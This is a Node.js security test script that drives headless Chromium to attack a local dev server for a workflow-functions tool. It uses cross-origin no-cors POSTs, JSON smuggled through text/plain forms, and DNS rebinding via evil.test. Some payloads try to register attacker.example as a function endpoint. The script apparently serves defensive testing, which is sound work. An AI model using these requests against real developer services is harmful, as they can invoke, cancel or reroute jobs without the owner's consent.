// A hostile web page against the dev server, in Debian's headless Chromium with playwright-core:
// node attack.mjs DEV_URL RUN_ID
// Serves an attacker page from another origin (its own HTTP server on a free 127.0.0.1 port) that
// tries what needs no CORS preflight: `no-cors` text/plain and body-less POSTs to the Scheduler
// route and to cancel / rerun / invoke RUN_ID's function, HTML form posts (one smuggling JSON in
// a text/plain form), and a JSON fetch that needs a preflight. Then DNS rebinding: Chromium maps
// evil.test to 127.0.0.1, so a page at http://evil.test:<dev port> talks to the dev server as its
// own origin, with Host evil.test. Prints one JSON line: every request the browser sent to the
// dev server with the status and body it got back, and what the pages could see.
import { chromium } from "playwright-core";
import http from "node:http";

const [devUrl, runId] = process.argv.slice(2);
const devPort = new URL(devUrl).port;
const schedule = JSON.stringify({
  ScheduleExpression: "at(2000-01-01T00:00:00)",
  FlexibleTimeWindow: { Mode: "OFF" },
  Target: { Arn: "x:hello", RoleArn: "r", Input: JSON.stringify({ name: "app/my.event", data: { from: "attacker" } }) },
});
const page = `<!doctype html><html><body>
<iframe name="sink1"></iframe><iframe name="sink2"></iframe>
<form id="f1" method="POST" target="sink1" enctype="text/plain" action="${devUrl}/api/functions/hello/invoke">
<input name='{"data":{"from":"form"},"x":"' value='"}'></form>
<form id="f2" method="POST" target="sink2" action="${devUrl}/schedules/attack-form?groupName=cairn">
<input name="ScheduleExpression" value="at(2000-01-01T00:00:00)"></form>
<script>
window.attack = async () => {
  const dev = ${JSON.stringify(devUrl)};
  const run = ${JSON.stringify(runId)};
  const plain = (path, body) => fetch(dev + path, { mode: "no-cors", method: "POST", headers: { "Content-Type": "text/plain" }, body });
  const seen = {};
  const tries = [
    ["schedule", () => plain("/schedules/attack?groupName=cairn", ${JSON.stringify(schedule)})],
    ["cancel", () => plain("/api/runs/" + run + "/cancel", "")],
    ["cancelNoBody", () => fetch(dev + "/api/runs/" + run + "/cancel", { mode: "no-cors", method: "POST" })],
    ["rerun", () => plain("/api/runs/" + run + "/rerun", '{"from":"start"}')],
    ["invoke", () => plain("/api/functions/hello/invoke", '{"data":{"from":"attacker"}}')],
    ["register", () => plain("/fn/register", '{"url":"https://attacker.example/api/inngest","functions":[]}')],
    ["jsonWithPreflight", () => fetch(dev + "/api/functions/hello/invoke", { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" })],
  ];
  for (const [name, attempt] of tries) {
    try { const r = await attempt(); seen[name] = { type: r.type, status: r.status }; }
    catch (e) { seen[name] = { error: e.name }; }
  }
  return seen;
};
</script></body></html>`;
const attacker = http.createServer((req, res) => { res.writeHead(200, { "content-type": "text/html" }); res.end(page); });
await new Promise((resolve) => attacker.listen(0, "127.0.0.1", resolve));
const attackerUrl = `http://127.0.0.1:${attacker.address().port}/`;

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
  args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-quic",
    "--host-resolver-rules=MAP evil.test 127.0.0.1"],
});
const result = { requests: [] };
try {
  const context = await browser.newContext();
  // Every request that reached the dev server's port, with the answer (opaque to the page).
  const pending = [];
  const capture = async (response) => {
    const request = response.request();
    const url = new URL(request.url());
    if (url.port !== devPort) return;
    let body = null;
    try { body = JSON.parse(await response.text()); } catch { body = null; }
    result.requests.push({ method: request.method(), host: url.host.startsWith("evil.test") ? "evil.test" : "loopback", path: url.pathname + url.search, status: response.status(), body });
  };
  context.on("response", (response) => pending.push(capture(response)));
  context.on("requestfailed", (request) => result.failed = [...(result.failed || []), `${request.method()} ${request.url()}: ${request.failure()?.errorText}`]);
  const cross = await context.newPage();
  await cross.goto(attackerUrl);
  result.crossOrigin = await cross.evaluate(() => window.attack());
  for (const [form, frame] of [["f1", "sink1"], ["f2", "sink2"]]) {
    const loaded = cross.waitForEvent("framenavigated", { predicate: (f) => f.name() === frame });
    await cross.evaluate((id) => document.getElementById(id).submit(), form);
    await loaded;
  }

  // DNS rebinding: the same origin as the dev server as far as the browser knows.
  const rebound = await context.newPage();
  const events = await rebound.goto(`http://evil.test:${devPort}/api/events`);
  result.rebinding = { eventsStatus: events.status(), eventsBody: JSON.parse(await events.text()) };
  const root = await rebound.goto(`http://evil.test:${devPort}/`);
  result.rebinding.rootStatus = root.status();
  result.rebinding.fetched = await rebound.evaluate(async () => {
    const read = async (response) => ({ status: response.status, body: await response.json() });
    return {
      events: await read(await fetch("/api/events")),
      invoke: await read(await fetch("/api/functions/hello/invoke", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"data":{"from":"rebinding"}}' })),
      register: await read(await fetch("/fn/register", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"url":"https://attacker.example/api/inngest","functions":[]}' })),
    };
  });
  await new Promise((resolve) => setTimeout(resolve, 500));
  await Promise.all(pending);
  result.requests.sort((a, b) => (a.path + a.method + a.host).localeCompare(b.path + b.method + b.host));
  console.log(JSON.stringify(result));
} catch (err) {
  console.error(`attack script failed: ${err.stack}\nso far: ${JSON.stringify(result)}`);
  process.exitCode = 1;
} finally {
  await browser.close();
  attacker.close();
}
